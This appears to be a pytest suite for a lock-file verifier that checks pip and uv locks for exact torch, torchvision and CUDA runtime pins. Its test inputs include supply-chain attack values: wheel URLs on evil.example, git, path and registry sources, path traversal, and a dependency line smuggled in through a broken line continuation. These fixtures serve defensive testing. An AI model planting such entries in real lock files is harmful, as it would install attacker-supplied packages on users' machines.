"""Issue 22: a verified lock installs exactly what was verified. Every lock format is read as
its installer reads it, pins exact known releases, names no direct URL, takes every artifact
from the target's own channels or indexes, and installs torch, torchvision and the CUDA
runtime on every platform x Python the target promises; ``install`` installs the bytes it
checked, never into a prefix that holds something, and leaves the old state or nothing.
Each test here failed on the code before its fix (README: "What verify guarantees")."""

from __future__ import annotations

import io
import re
import shutil
from pathlib import Path

import pytest
from checkout import ENVS

from lockgen.cli import main
from lockgen.errors import LockgenError
from lockgen.verify import verify_file


def _cli(*argv, **inject):
    out, err = io.StringIO(), io.StringIO()
    rc = main([str(a) for a in argv], out=out, err=err, **inject)
    return rc, out.getvalue(), err.getvalue()


def _errors(report) -> str:
    return "\n".join(f.message for f in report.findings if f.level == "error")


# -- pip hash-locks: read as pip reads them ---------------------------------------------------

PIP = ENVS / "cu128.requirements.txt"  # PyPI's torch 2.8.0 is the CUDA 12.8 build; Pythons 3.9-3.13
TORCH = "torch==2.8.0 \\\n"
VISION = "torchvision==0.23.0 \\\n"
RUNTIME = "nvidia-cuda-runtime-cu12==12.8.90 \\\n"
NUMPY = 'numpy==2.4.6 ; python_version == "3.11" \\\n'


@pytest.fixture
def pip_copy(tmp_path):
    def make(edit) -> Path:
        text = PIP.read_text()
        new = edit(text)
        assert new != text, "the edit changed nothing"
        out = tmp_path / PIP.name
        out.write_bytes(new.encode() if isinstance(new, str) else new)
        return out

    return make


def _torch_and_vision(marker: str):
    def edit(text):
        return text.replace(TORCH, f"torch==2.8.0 ; {marker} \\\n").replace(
            VISION, f"torchvision==0.23.0 ; {marker} \\\n"
        )

    return edit


@pytest.mark.parametrize(
    "marker",
    [
        'sys_platform == "win32"',  # S1 (1): never on the target's Linux
        'python_version<"3"',  # S1 (2): no spaces, still a marker to pip
        'python_version == "3.11"',  # S1 (3): one of the five Pythons the header names
        'platform_machine == "aarch64"',  # the other Linux
        'python_version >= "3.10"',  # drops 3.9 only
        'sys_platform != "linux"',
    ],
)
def test_pip_markers_that_drop_torch_somewhere_fail(matrix, pip_copy, marker):
    report = verify_file(pip_copy(_torch_and_vision(marker)), matrix)
    assert not report.ok  # before: OK (markers were never evaluated)
    assert re.search(
        r"torch(vision)? is not installed on linux-64 \+ Python 3\.\d+", _errors(report)
    )


@pytest.mark.parametrize("marker", ['python_version < "3.12"', 'python_version == "3.9"'])
def test_pip_markers_that_drop_the_cuda_runtime_fail(matrix, pip_copy, marker):
    report = verify_file(
        pip_copy(lambda t: t.replace(RUNTIME, RUNTIME[:-3] + f" ; {marker} \\\n")), matrix
    )
    assert "nvidia-cuda-runtime-cu12 is not installed on linux-64" in _errors(report)


@pytest.mark.parametrize(
    "marker, says",
    [
        ('platform_release >= "6"', "depends on platform_release"),
        ('python_full_version >= "3.11.4"', "depends on the Python patch release"),
        ('python_version = "3.11"', "is not valid"),
    ],
)
def test_pip_markers_verify_cannot_judge_fail(matrix, pip_copy, marker, says):
    report = verify_file(
        pip_copy(lambda t: t.replace(NUMPY, f"numpy==2.4.6 ; {marker} \\\n")), matrix
    )
    assert says in _errors(report)


def test_pip_two_pins_of_one_package_on_one_machine_fail(matrix, pip_copy):
    report = verify_file(
        pip_copy(lambda t: t.replace(NUMPY, 'numpy==2.4.6 ; python_version >= "3.11" \\\n')), matrix
    )
    assert "numpy: listed twice for linux-64 + Python 3.12" in _errors(report)


@pytest.mark.parametrize(
    "pin", ["2.8.0rc1", "2.8.0.dev20250101", "2.8.0.post1", "2.8.0.1", "2.8.1", "2.8"]
)
def test_pip_torch_must_be_the_exact_release(matrix, pip_copy, pin):
    report = verify_file(pip_copy(lambda t: t.replace(TORCH, f"torch=={pin} \\\n")), matrix)
    assert not report.ok, pin  # before: OK (pre/post/dev suffixes and extra parts ignored)
    assert f"torch {pin} is" in _errors(report)


@pytest.mark.parametrize(
    "line, says",
    [
        (  # F5: pip downloads from the URL; the attacker supplies the hash
            "numpy @ https://evil.example/numpy-2.4.6-cp311-cp311-manylinux_2_28_x86_64.whl"
            '#==2.4.6 ; python_version == "3.11" \\\n',
            "a direct URL",
        ),
        (
            'numpy @ file:///tmp/evil/numpy-2.4.6.whl ; python_version == "3.11" \\\n',
            "a direct URL",
        ),
        ('numpy[dev]==2.4.6 ; python_version == "3.11" \\\n', "extras"),
        ('numpy===2.4.6 ; python_version == "3.11" \\\n', "not pinned with =="),
        ('numpy==2.4.* ; python_version == "3.11" \\\n', "not pinned with =="),
        ('numpy>=2.4.6,==2.4.6 ; python_version == "3.11" \\\n', "not pinned with =="),
        ('numpy==2.4.6rc1 ; python_version == "3.11" \\\n', "pre- or development release"),
        ('numpy==${NUMPY} ; python_version == "3.11" \\\n', "replaced from the environment"),
        (
            'https://evil.example/numpy-2.4.6.whl ; python_version == "3.11" \\\n',
            "not a requirement",
        ),
        ('numpy==2.4.6 ; python_version == "3.11" --no-binary numpy \\\n', "option '--no-binary'"),
    ],
)
def test_pip_entries_are_parsed_with_pips_grammar(matrix, pip_copy, line, says):
    report = verify_file(pip_copy(lambda t: t.replace(NUMPY, line)), matrix)
    assert says in _errors(report)  # before: OK for each


def test_pip_line_joining_is_pips(matrix, pip_copy):
    """U1: what pip accepts verifies, and what pip reads differently fails."""
    bom = verify_file(pip_copy(lambda t: ("\ufeff" + t).encode()), matrix)
    assert bom.ok, bom.format()  # before: "\ufeff# Generated ...: not pinned with =="
    spaced = pip_copy(lambda t: t.replace("--hash=sha256:", "--hash sha256:"))
    assert verify_file(spaced, matrix).ok  # before: bad version '2.8.0  --hash sha256...'
    # a comment inside torch's continuation ends the line: pip sees torch without hashes
    comment = verify_file(pip_copy(lambda t: t.replace(TORCH, TORCH + "    # note\n")), matrix)
    assert "torch: missing or malformed --hash" in _errors(comment)
    # trailing whitespace after "\" ends the line too: the next line is pip's own
    smuggled = pip_copy(
        lambda t: t.replace(TORCH, "torch==2.8.0 \\  \n    evil @ https://evil.example/e.whl \\\n")
    )
    assert not verify_file(smuggled, matrix).ok  # before: OK, swallowed as torch's hashes


# -- every lock is a regular file of sane size ------------------------------------------------


@pytest.mark.parametrize("name", ["cu128.requirements.txt", "uv.lock", "cu121.lock"])
def test_a_fifo_or_device_as_a_lock_is_refused_unread(tmp_path, matrix, name):
    import os

    fifo = tmp_path / "uv" / "cu128" / name if name == "uv.lock" else tmp_path / name
    fifo.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(fifo)
    with pytest.raises(LockgenError, match="is not a file: a lock is a regular file"):
        verify_file(fifo, matrix)  # before (uv.lock): blocked forever
    zero = fifo.with_name(name + ".zero")
    zero.symlink_to("/dev/zero")
    link = fifo.parent / "z" / name
    link.parent.mkdir()
    link.symlink_to("/dev/zero")
    with pytest.raises(LockgenError, match="is not a file: a lock is a regular file"):
        verify_file(link, matrix)  # before (uv.lock): read until MemoryError


def test_verify_json_reports_the_good_files_beside_a_missing_one(matrix, tmp_path):
    import json

    rc, out, err = _cli("verify", "--json", PIP, tmp_path / "missing.requirements.txt", PIP)
    assert rc == 1
    reports = json.loads(out)  # before: one error line, exit 2, no JSON
    assert [r["ok"] for r in reports] == [True, False, True]
    assert "does not exist" in reports[1]["findings"][0]["message"]


# -- uv.lock: its TOML, every file URL, markers per platform x Python -------------------------

UV = ENVS / "uv" / "cu128" / "uv.lock"
TORCH_WHEEL = (
    "https://files.pythonhosted.org/packages/5a/63/4fdc45a0304536e75a5e1b1bbfb1b56dd0e2743c48ee"
    "83ca729f7ce44162/torch-2.8.0-cp311-cp311-manylinux_2_28_x86_64.whl"
)
ROOT_TORCH = '    { name = "torch" },\n    { name = "torchvision" },\n'


@pytest.fixture
def uv_copy(tmp_path):
    def make(edit) -> Path:
        envs = tmp_path / "envs"
        shutil.copytree(ENVS / "uv" / "cu128", envs / "uv" / "cu128")
        lock = envs / "uv" / "cu128" / "uv.lock"
        text = lock.read_text()
        new = edit(text)
        assert new != text, "the edit changed nothing"
        lock.write_text(new)
        return lock

    return make


def test_the_committed_uv_locks_verify(matrix):
    for lock in sorted((ENVS / "uv").glob("*/uv.lock")):
        report = verify_file(lock, matrix)
        assert report.ok, report.format()


@pytest.mark.parametrize(
    "marker",
    ["sys_platform == 'win32'", "python_full_version < '3.11'", "platform_machine == 'aarch64'"],
)
def test_uv_markers_that_drop_torch_somewhere_fail(matrix, uv_copy, marker):
    def edit(text):
        return text.replace(
            ROOT_TORCH,
            f'    {{ name = "torch", marker = "{marker}" }},\n'
            f'    {{ name = "torchvision", marker = "{marker}" }},\n',
        )

    report = verify_file(uv_copy(edit), matrix)
    assert re.search(r"torch(vision)? is not installed on linux-64 \+ Python", _errors(report))


def test_uv_a_torch_whose_cuda_runtime_is_marked_away_fails(matrix, uv_copy):
    def edit(text):  # the project's own pin and torch's dependency on the runtime
        return text.replace(
            '    { name = "nvidia-cuda-runtime-cu12" },\n',
            '    { name = "nvidia-cuda-runtime-cu12", marker = "sys_platform == \'win32\'" },\n',
        )

    errors = _errors(verify_file(uv_copy(edit), matrix))
    assert "nvidia-cuda-runtime-cu12 is not installed on linux-64" in errors
    assert "no nvidia-cuda-runtime-cu12 in the lock among torch's dependencies" in errors


@pytest.mark.parametrize(
    "url, says",
    [
        (  # F6: PyTorch's CPU wheel of the release
            "https://download.pytorch.org/whl/cpu/torch-2.8.0%2Bcpu-cp311-cp311-manylinux_2_28_x86_64.whl",
            "is not under https://files.pythonhosted.org/packages/",
        ),
        (
            "https://evil.example/packages/torch-2.8.0-cp311-cp311-manylinux_2_28_x86_64.whl",
            "is not under",
        ),
        (TORCH_WHEEL.replace("https://", "http://"), "not a plain https URL"),
        (TORCH_WHEEL + "?x=1", "not a plain https URL"),
        (TORCH_WHEEL.replace("/5a/63/", "/5a/../../evil/"), "'..'"),
        (TORCH_WHEEL.replace("/5a/63/", "/5a%2F63/"), "encoded separator"),
        (TORCH_WHEEL.replace("torch-2.8.0-", "torch-2.8.0%2Bcpu-"), "is torch 2.8.0+cpu"),
        (TORCH_WHEEL.replace("torch-2.8.0-", "torch-2.7.1-"), "is torch 2.7.1"),
        (TORCH_WHEEL.replace("torch-2.8.0-", "evil-2.8.0-"), "is evil 2.8.0"),
    ],
)
def test_uv_wheel_urls_are_checked(matrix, uv_copy, url, says):
    report = verify_file(uv_copy(lambda t: t.replace(TORCH_WHEEL, url)), matrix)
    assert says in _errors(report)  # before: OK (uv sync --locked accepts the lock)


@pytest.mark.parametrize(
    "source, says",
    [
        ('{ url = "https://evil.example/numpy-2.0.2.tar.gz" }', "comes from a url source"),
        ('{ git = "https://evil.example/numpy?rev=1#abc" }', "comes from a git source"),
        ('{ path = "../../evil" }', "comes from a path source"),
        ('{ registry = "https://evil.example/simple" }', "comes from https://evil.example/simple"),
    ],
)
def test_uv_packages_come_from_their_index(matrix, uv_copy, source, says):
    def edit(text):
        head = 'name = "numpy"\nversion = "2.0.2"\nsource = '
        return text.replace(head + '{ registry = "https://pypi.org/simple" }', head + source)

    assert says in _errors(verify_file(uv_copy(edit), matrix))


@pytest.mark.parametrize("version", ["2.8.0rc1", "2.8.0.post1", "2.8.1"])
def test_uv_torch_must_be_the_exact_release(matrix, uv_copy, version):
    def edit(text):
        return text.replace(
            'name = "torch"\nversion = "2.8.0"', f'name = "torch"\nversion = "{version}"'
        )

    assert f"torch {version} is" in _errors(verify_file(uv_copy(edit), matrix))
